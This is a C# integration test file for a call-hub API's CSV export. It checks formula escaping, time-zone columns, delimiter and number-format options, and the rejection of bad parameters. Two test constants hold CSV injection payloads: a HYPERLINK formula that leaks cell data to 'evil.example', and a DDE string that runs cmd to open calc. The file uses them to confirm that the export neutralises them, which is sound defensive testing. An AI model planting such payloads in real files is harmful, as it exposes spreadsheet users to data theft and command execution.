using System.Net;
using System.Text;
using PbxHub.IntegrationTests.Infrastructure;
using static PbxHub.IntegrationTests.Infrastructure.SipuniHooks;

namespace PbxHub.IntegrationTests.Api;

/// <summary><c>GET /api/v1/calls.csv</c> as a spreadsheet user gets it (docs/export.md).</summary>
public sealed class CsvExportTests
{
    private const long T = 1_700_000_000; // 2023-11-14T22:13:20Z, 01:13:20 the next day in Moscow.
    private const string Line = "84951234567";
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Call back\")";
    private const string Dde = "@SUM(1+9)*cmd|' /C calc'!A0";

    /// <summary>The demo account (Moscow) with an answered call from a mobile and a call whose numbers are formulas.</summary>
    private static async Task<HubServer> StartWithCallsAsync()
    {
        var hub = await HubServer.StartAsync();
        await hub.Client.SendHooksAsync(hub.HookPath, AnsweredInbound("csv-a", "89031234567", Line, "101", T));
        await hub.Client.SendHooksAsync(hub.HookPath, [Arrival("csv-evil", Dde, Hyperlink, T + 100)]);
        await hub.Client.SendHooksAsync(hub.HookPath, [Arrival("csv-formatted", "+7 (903) 765-43-21", Line, T + 200)]);
        return hub;
    }

    private static async Task<(List<string[]> Rows, string Text)> CsvAsync(HubServer hub, string query, char delimiter = ',')
    {
        using var response = await hub.Client.GetAsync("/api/v1/calls.csv" + query);
        var text = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.OK, text);
        return (Rfc4180(text.TrimStart('\uFEFF'), delimiter), text);
    }

    private static Dictionary<string, string> Row(List<string[]> rows, string providerCallId)
    {
        var header = rows[0];
        var row = rows.Single(r => r.Length > 3 && r[Array.IndexOf(header, "providerCallId")] == providerCallId);
        return header.Zip(row).ToDictionary(p => p.First, p => p.Second);
    }

    [Fact]
    public async Task Csv_ValuesThatWouldBeFormulas_StartWithAnApostrophe()
    {
        await using var hub = await StartWithCallsAsync();

        var (rows, _) = await CsvAsync(hub, "");

        var evil = Row(rows, "csv-evil");
        Assert.Equal("'" + Dde, evil["from"]);
        Assert.Equal("'" + Hyperlink, evil["to"]);
        var cells = rows.SelectMany(r => r).Where(c => c.Length > 0);
        Assert.DoesNotContain(cells, c => "=@\t\r".Contains(c[0], StringComparison.Ordinal));
        // A number starts nothing: the E.164 columns stay as they always were.
        Assert.Equal(("89031234567", "+79031234567"), (Row(rows, "csv-a")["from"], Row(rows, "csv-a")["fromNumber"]));
        Assert.Equal("'+7 (903) 765-43-21", Row(rows, "csv-formatted")["from"]);
    }

    [Fact]
    public async Task Csv_NoParameters_UtcColumnsAsBeforeThenLocalTimesInTheAccountsZone()
    {
        await using var hub = await StartWithCallsAsync();

        var (rows, text) = await CsvAsync(hub, "?number=89031234567");

        Assert.Equal(2, text.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Length); // RFC 4180 line breaks

        Assert.Equal(
            ["id", "account", "provider", "providerCallId", "direction", "state", "outcome", "startedAt", "answeredAt", "endedAt",
             "waitSeconds", "talkSeconds", "from", "fromNumber", "to", "toNumber", "line", "answeredBy", "endedWith", "legs",
             "transfers", "recordingUrl", "providerResult", "incomplete", "timeZone", "startedAtLocal", "answeredAtLocal", "endedAtLocal",
             "fromHistory"],
            rows[0]);
        var call = Row(rows, "csv-a");
        Assert.Equal(("2023-11-14T22:13:20Z", "2023-11-14T22:13:25Z"), (call["startedAt"], call["answeredAt"]));
        Assert.Equal("Europe/Moscow", call["timeZone"]);
        Assert.Equal(("2023-11-15 01:13:20", "2023-11-15 01:13:25", "2023-11-15 01:13:55"),
            (call["startedAtLocal"], call["answeredAtLocal"], call["endedAtLocal"]));
    }

    [Fact]
    public async Task Csv_TimeZoneParameter_LocalColumnsInThatZoneAndNamed()
    {
        await using var hub = await StartWithCallsAsync();

        var (rows, _) = await CsvAsync(hub, "?timeZone=Asia/Tokyo");

        var call = Row(rows, "csv-a");
        Assert.Equal(("Asia/Tokyo", "2023-11-15 07:13:20"), (call["timeZone"], call["startedAtLocal"]));
        Assert.Equal("2023-11-14T22:13:20Z", call["startedAt"]);
    }

    [Fact]
    public async Task Csv_SemicolonAndNumbersAsText_ExcelReadsEveryNumberAsWritten()
    {
        await using var hub = await StartWithCallsAsync();

        var (rows, text) = await CsvAsync(hub, "?delimiter=semicolon&numbers=text", ';');

        Assert.StartsWith("id;account;provider;providerCallId;", text.TrimStart('\uFEFF'), StringComparison.Ordinal);
        var call = Row(rows, "csv-a");
        Assert.Equal(("=\"89031234567\"", "=\"+79031234567\"", "=\"+74951234567\""), (call["from"], call["fromNumber"], call["line"]));
        Assert.Equal(("5", "30"), (call["waitSeconds"], call["talkSeconds"]));
        Assert.Equal("'" + Hyperlink, Row(rows, "csv-evil")["to"]);
        // A number written with spaces and brackets is text anyway; its + would make it a formula, and the text formula shows it as sent.
        Assert.Equal(("=\"+7 (903) 765-43-21\"", "=\"+79037654321\""), (Row(rows, "csv-formatted")["from"], Row(rows, "csv-formatted")["fromNumber"]));
    }

    [Theory]
    [InlineData("?delimiter=tab", "delimiter")]
    [InlineData("?timeZone=Mars/Olympus", "timeZone")]
    [InlineData("?numbers=words", "numbers")]
    public async Task Csv_BadParameter_ProblemDetailsNamingIt(string query, string parameter)
    {
        await using var hub = await HubServer.StartAsync();

        using var response = await hub.Client.GetAsync("/api/v1/calls.csv" + query);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        using var problem = await response.ReadJsonAsync();
        Assert.True(problem.RootElement.GetProperty("errors").TryGetProperty(parameter, out _), problem.RootElement.ToString());
    }

    /// <summary>RFC 4180 with the given delimiter: quoted fields may hold the delimiter, doubled quotes and line breaks.</summary>
    private static List<string[]> Rfc4180(string text, char delimiter)
    {
        var rows = new List<string[]>();
        var row = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"' && field.Length == 0)
            {
                quoted = true;
            }
            else if (c == delimiter)
            {
                row.Add(field.ToString());
                field.Clear();
            }
            else if (c == '\n' || (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n'))
            {
                i += c == '\r' ? 1 : 0;
                row.Add(field.ToString());
                field.Clear();
                rows.Add([.. row]);
                row.Clear();
            }
            else
            {
                field.Append(c);
            }
        }

        return rows;
    }
}
